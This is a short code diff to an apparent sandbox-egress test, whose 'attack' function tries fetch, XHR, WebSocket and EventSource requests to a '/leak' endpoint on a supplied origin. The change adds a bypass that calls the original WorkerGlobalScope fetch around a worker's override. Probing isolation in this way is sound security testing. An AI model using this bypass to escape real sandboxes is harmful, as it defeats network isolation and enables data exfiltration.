@@ -150,7 +150,9 @@ async def attack(origin: str) -> dict[str, str]:
     no_cors = to_js({"mode": "no-cors", "keepalive": True}, dict_converter=js.Object.fromEntries)
     ways = {
         "fetch": lambda: js.fetch(origin + "/leak?fetch"),
-        "noCors": lambda: js.fetch(origin + "/leak?nocors", no_cors),
+        # What the worker put over it is no boundary.
+        "realFetch": lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, origin + "/leak?real"),
+        "noCors": lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, origin + "/leak?nocors", no_cors),
         "xhr": xhr,
         "webSocket": lambda: opened(js.WebSocket.new(origin.replace("http", "ws") + "/leak"), "onopen", "onerror"),
         "eventSource": lambda: opened(js.EventSource.new(origin + "/leak?es"), "onopen", "onerror"),
